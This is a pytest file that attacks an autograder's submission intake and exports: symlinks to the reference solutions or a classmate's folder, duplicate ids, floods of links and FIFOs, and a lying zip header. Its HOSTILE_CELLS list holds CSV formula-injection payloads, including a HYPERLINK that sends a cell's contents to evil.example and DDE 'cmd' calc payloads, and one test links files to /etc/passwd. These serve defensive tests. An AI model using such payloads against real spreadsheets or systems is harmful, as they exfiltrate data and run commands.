"""Attacks on what grade-all and the Gradescope autograder read: links, ids, spreadsheet cells, floods.

Each test plays a hostile student (or a careless upload) against the input stage only:
discovery (``bulk.inputs``), preparation (``intake.prepare``) and the exports
(``bulk.exports``). The one test that grades runs a three-student class on one question.
"""

import csv
import io
import os
import zipfile
from pathlib import Path

import pytest

from autograder.bulk.inputs import discover, prepare
from autograder.intake import prepare as read_submission
from autograder.results import CannotGrade
from submissions import PROJECT, reference_source, write_submission

SOLUTIONS = PROJECT / "solutions"
ONE_QUESTION = ("confusion.public_example",)


def prepared(entry):
    """The entry's prepared files, or the reason it cannot be graded."""
    try:
        return dict(prepare(entry).files)
    except CannotGrade as exc:
        return str(exc)


# ------------------------------------------------------ links in a class folder

def test_a_symlinked_wrapper_folder_is_not_followed_into_the_solutions(tmp_path):
    """mallory/code -> solutions/ must not grade the reference (it scored 10/10)."""
    root = tmp_path / "class"
    (root / "mallory").mkdir(parents=True)
    (root / "mallory" / "code").symlink_to(SOLUTIONS, target_is_directory=True)
    write_submission(root / "honest", honest=["confusion"])
    (mallory,) = [e for e in discover(root) if e.id == "mallory"]
    got = prepared(mallory)
    assert isinstance(got, str), "the linked solutions were prepared for grading"
    assert "symbolic link" in got and "code" in got


def test_a_symlinked_folder_to_a_classmate_gets_nothing_of_theirs(tmp_path):
    """trudy/work -> ../alice gave trudy alice's grade and a copy of her files."""
    root = tmp_path / "class"
    write_submission(root / "alice", files={"confusion.py": "# alice's own work\n" + reference_source("confusion")})
    (root / "trudy").mkdir()
    (root / "trudy" / "work").symlink_to(Path("..") / "alice", target_is_directory=True)
    entries = {e.id: e for e in discover(root)}
    alice, trudy = prepared(entries["alice"]), prepared(entries["trudy"])
    assert isinstance(alice, dict) and b"alice's own work" in alice["confusion.py"]
    assert not (isinstance(trudy, dict) and any(b"alice's own work" in v for v in trudy.values()))
    assert "symbolic link" in str(trudy)


def test_a_student_entry_that_is_itself_a_link_is_not_followed(tmp_path):
    root = tmp_path / "class"
    write_submission(root / "alice", honest=["confusion"])
    (root / "eve").symlink_to(SOLUTIONS, target_is_directory=True)
    (root / "eve.zip").symlink_to(tmp_path / "elsewhere.zip")
    entries = {e.source: e for e in discover(root)}
    for name in ("eve", "eve.zip"):
        reason = prepared(entries[name])
        assert isinstance(reason, str) and "symbolic link" in reason, (name, reason)


def test_a_link_deeper_in_the_tree_is_skipped_with_a_note(tmp_path):
    """Folders are walked without following links: a link to the reference inside a sub-folder is a note."""
    source = tmp_path / "sub"
    write_submission(source / "hw", honest=["confusion"])
    (source / "hw" / "roc.py").symlink_to(SOLUTIONS / "roc.py")
    (source / "hw" / "more").symlink_to(SOLUTIONS, target_is_directory=True)
    prepared = read_submission(source)
    notes = list(prepared.notes)
    folder = prepared.materialize(tmp_path / "work")
    assert sorted(p.name for p in folder.iterdir()) == ["confusion.py"]
    assert any("roc.py" in n and "symbolic link" in n for n in notes), notes
    assert any("more" in n and "symbolic link" in n for n in notes), notes


def test_the_gradescope_autograder_does_not_follow_a_lone_code_link(tmp_path):
    """/autograder/submission/code -> the installed reference scored 10/10."""
    from autograder.build.gradescope import _submission

    submission = tmp_path / "submission"
    submission.mkdir()
    (submission / "code").symlink_to(SOLUTIONS, target_is_directory=True)
    with pytest.raises(CannotGrade, match="symbolic link"):
        read_submission(_submission(submission)).materialize(tmp_path / "work")


def test_a_zip_member_stored_as_a_link_is_skipped(tmp_path):
    archive = tmp_path / "sub.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("confusion.py", reference_source("confusion"))
        link = zipfile.ZipInfo("roc.py")
        link.external_attr = (0o120777 << 16)  # S_IFLNK: the member's "content" is the link's target
        zf.writestr(link, str(SOLUTIONS / "roc.py"))
    prepared = read_submission(archive)
    notes = list(prepared.notes)
    folder = prepared.materialize(tmp_path / "work")
    assert sorted(p.name for p in folder.iterdir()) == ["confusion.py"]
    assert any("roc.py" in n and "symbolic link" in n for n in notes), notes


# ------------------------------------------------------------- duplicate ids

def _duplicate_id_class(root: Path, layout: str) -> dict[str, bytes]:
    """Three submissions whose ids are x, x and x-2; returns a marker that tells each one's files apart."""
    markers = {}
    if layout == "folder":
        for source in ("x", "x.zip", "x-2"):
            marker = f"# written by {source}\n".encode()
            markers[source] = marker
            body = marker + reference_source("confusion").encode()
            if source.endswith(".zip"):
                with zipfile.ZipFile(root / source, "w") as zf:
                    zf.writestr("confusion.py", body)
            else:
                (root / source).mkdir(parents=True)
                (root / source / "confusion.py").write_bytes(body)
    else:
        lines = []
        for n, sid in enumerate(("x", "x", "x-2")):
            folder = f"submission_{100 + n}"
            marker = f"# written by {folder}\n".encode()
            markers[folder] = marker
            (root / folder).mkdir(parents=True)
            (root / folder / "confusion.py").write_bytes(marker + reference_source("confusion").encode())
            lines += [f"{folder}:", "  :submitters:", f"  - :name: Student {n}", f"    :sid: '{sid}'",
                      f"    :email: s{n}@example.edu"]
        (root / "submission_metadata.yml").write_text("\n".join(lines) + "\n")
    return markers


@pytest.mark.parametrize("layout", ["folder", "gradescope"])
def test_duplicate_ids_stay_distinct_and_each_keeps_its_own_files(tmp_path, layout):
    markers = _duplicate_id_class(tmp_path / "class", layout)
    entries = discover(tmp_path / "class")
    ids = [e.id for e in entries]
    assert len(set(ids)) == len(ids) == 3, ids
    for entry in entries:
        assert prepare(entry).files["confusion.py"].startswith(markers[entry.source]), entry


def test_ids_are_unique_without_regard_to_case(tmp_path):
    """Ann/ and ann/ are one folder on macOS and Windows: the per-student output folders must differ."""
    for name in ("Ann", "ann"):
        write_submission(tmp_path / "class" / name, honest=["confusion"])
    ids = [e.id for e in discover(tmp_path / "class")]
    assert len({i.casefold() for i in ids}) == 2, ids


@pytest.mark.slow
@pytest.mark.parametrize("layout", ["folder", "gradescope"])
def test_a_class_with_duplicate_ids_is_graded_one_row_per_submission(tmp_path, layout):
    from autograder.bulk import grade_all

    markers = _duplicate_id_class(tmp_path / "class", layout)
    outcome = grade_all(tmp_path / "class", tmp_path / "out", questions=ONE_QUESTION, workers=2,
                        timeout=20)
    assert sorted(e["source"] for e in outcome.entries) == sorted(markers)
    assert len({e["id"] for e in outcome.entries}) == 3
    for entry in outcome.entries:
        assert entry["status"] == "graded", entry
        copy = tmp_path / "out" / "students" / entry["id"] / "submission" / "confusion.py"
        assert copy.read_bytes().startswith(markers[entry["source"]])
    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8-sig") as fh:
        assert len(list(csv.DictReader(fh))) == 3


# ------------------------------------------------------ spreadsheet formulas

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ORDINARY = ["Zoë Smith", "O'Brien, Seán", "李雷", "x-2", "1234567", "ann@example.edu"]


def _fake_results(ids):
    from autograder.results import GradingResult, QuestionResult

    return {i: GradingResult(submission=i, profile="quick", isolation="bubblewrap",
                             questions=[QuestionResult("confusion.public_example", "t", "public", 2.0, 2.0, "passed")])
            for i in ids}


def _entries(names):
    return [{"id": f"s{i}", "name": name, "email": name, "source": name, "status": "graded", "error": name,
             "roster": {"ID": str(1000 + i)}} for i, name in enumerate(names)]


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_grades_csv_neutralises_formulas_and_keeps_ordinary_names(tmp_path):
    from autograder.bulk.exports import write_grades_csv

    entries = _entries(HOSTILE_CELLS + ORDINARY)
    write_grades_csv(tmp_path / "grades.csv", entries, _fake_results(e["id"] for e in entries))
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if _dangerous(c) and not _is_plain_number(c)], cells
    names = [row[1] for row in rows[1:]]
    assert names[len(HOSTILE_CELLS):] == ORDINARY  # what a re-import reads back for ordinary names
    assert all(n.startswith("'") and n[1:] == h for n, h in zip(names, HOSTILE_CELLS))


def test_canvas_import_neutralises_formulas_in_roster_cells(tmp_path):
    from autograder.bulk.exports import write_canvas_csv

    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Chapter 3 Classification (4242)"])
        writer.writerow(["    Points Possible", "", "", "", "", "126.00"])
        for i, name in enumerate(HOSTILE_CELLS + ORDINARY):
            writer.writerow([name, str(1000 + i), name, name, name, ""])
    entries = _entries(HOSTILE_CELLS + ORDINARY)
    write_canvas_csv(tmp_path / "canvas_import.csv", entries, _fake_results(e["id"] for e in entries), roster,
                     partial_export=True)
    with open(tmp_path / "canvas_import.csv", newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if _dangerous(c) and not _is_plain_number(c)], cells
    assert [row[0] for row in rows[2 + len(HOSTILE_CELLS):]] == ORDINARY


def test_no_csv_writer_in_the_package_bypasses_the_neutraliser():
    """Every CSV the project writes goes through exports' writer: a new csv.writer elsewhere is a finding."""
    package = PROJECT / "autograder"
    writers = [str(p.relative_to(PROJECT)) for p in package.rglob("*.py")
               if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()]
    assert writers == ["autograder/bulk/exports.py"], writers


# --------------------------------------------------------- floods of entries

@pytest.mark.parametrize("links", [2_000, pytest.param(60_000, marks=pytest.mark.slow)])
def test_sixty_thousand_links_and_fifos_give_a_short_summary(tmp_path, links):
    source = write_submission(tmp_path / "sub", honest=["confusion"])
    for i in range(links):
        (source / f"link{i}.py").symlink_to("/etc/passwd")
    for i in range(20):
        os.mkfifo(source / f"fifo{i}.py")
    prepared = read_submission(source)
    notes = list(prepared.notes)
    folder = prepared.materialize(tmp_path / "work")
    assert sorted(p.name for p in folder.iterdir()) == ["confusion.py"]
    text = "\n".join(notes)
    assert len(text) < 4_000, len(text)
    assert f"{links + 20:,} entries" in text and f"{links:,} symbolic links" in text and "20 FIFOs" in text, text


# --------------------------------------------------- several candidate copies

def _attempts_zip(path: Path, order: list[str]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for attempt in order:
            zf.writestr(f"{attempt}/confusion.py", f"# {attempt}\n" + reference_source("confusion"))
    return path


def test_a_zip_with_several_attempts_grades_one_by_the_documented_rule(tmp_path):
    """attempt1/ and attempt2/ at the same depth: the last in natural order wins, whatever the members' order
    (it was ``min`` over a set, so the hash seed chose), with a note naming the others."""
    outputs = set()
    for n, order in enumerate((["attempt2", "attempt10", "attempt1"], ["attempt1", "attempt2", "attempt10"],
                               ["attempt10", "attempt1", "attempt2"])):
        prepared = read_submission(_attempts_zip(tmp_path / f"{n}.zip", order))
        notes = list(prepared.notes)
        folder = prepared.materialize(tmp_path / f"w{n}")
        outputs.add(((folder / "confusion.py").read_text().splitlines()[0], tuple(notes)))
    assert len(outputs) == 1, outputs
    ((first_line, notes),) = outputs
    assert first_line == "# attempt10"
    assert any("attempt1/" in n and "attempt2/" in n and "not graded" in n for n in notes), notes


def test_a_folder_with_several_attempts_grades_one_by_the_same_rule(tmp_path):
    source = tmp_path / "sub"
    for attempt in ("attempt1", "attempt2"):
        write_submission(source / attempt, files={"confusion.py": f"# {attempt}\n" + reference_source("confusion")})
    write_submission(source / "attempt1", honest=["roc"])  # more modules beat a later name
    prepared = read_submission(source)
    notes = list(prepared.notes)
    folder = prepared.materialize(tmp_path / "work")
    assert (folder / "confusion.py").read_text().startswith("# attempt1\n")
    assert any("attempt2/" in n and "not graded" in n for n in notes), notes


def test_canvas_reuploads_are_ordered_by_submission_and_attempt_numbers(tmp_path):
    """..._100_confusion-1.py is newer than ..._99_confusion.py: as strings it sorted first and lost."""
    root = tmp_path / "canvas"
    root.mkdir()
    old, new = "# old upload\n", "# newest upload\n"
    (root / "leeann_1001_99_confusion.py").write_text(old + reference_source("confusion"))
    (root / "leeann_1001_100_confusion-1.py").write_text(new + reference_source("confusion"))
    (root / "leeann_1001_100_roc-2.py").write_text(new + reference_source("roc"))
    (root / "leeann_1001_100_roc-10.py").write_text(new + "# attempt 10\n" + reference_source("roc"))
    (root / "smithbo_1002_98_confusion.py").write_text(old + reference_source("confusion"))
    entries = {e.lms["canvas_user_id"]: e for e in discover(root, "canvas")}
    submission = prepare(entries["1001"])
    files, notes = submission.files, submission.notes
    assert files["confusion.py"].decode().startswith(new)
    assert files["roc.py"].decode().startswith(new + "# attempt 10\n")
    assert any("confusion.py" in n and "leeann_1001_99_confusion.py" in n for n in notes), notes


def test_the_zip_entry_count_is_read_without_private_zipfile_apis(tmp_path):
    """The cap holds for a zip whose end record understates its entries (ZipFile reads by size, not count)."""
    import autograder.files as files
    import autograder.intake.submission as reading

    source = Path(reading.__file__).read_text() + Path(files.__file__).read_text()
    assert "zipfile._" not in source
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("confusion.py", reference_source("confusion"))
        for i in range(reading.MAX_ZIP_ENTRIES + 1):
            zf.writestr(f"junk/{i:06d}/" + "n" * 240, b"")
    data = bytearray(buffer.getvalue())
    end = data.rindex(b"PK\x05\x06")
    data[end + 8:end + 12] = (1).to_bytes(2, "little") * 2  # "1 entry" on this disk and in total
    archive = tmp_path / "liar.zip"
    archive.write_bytes(bytes(data))
    with pytest.raises(CannotGrade, match="more than"):
        read_submission(archive).materialize(tmp_path / "work")
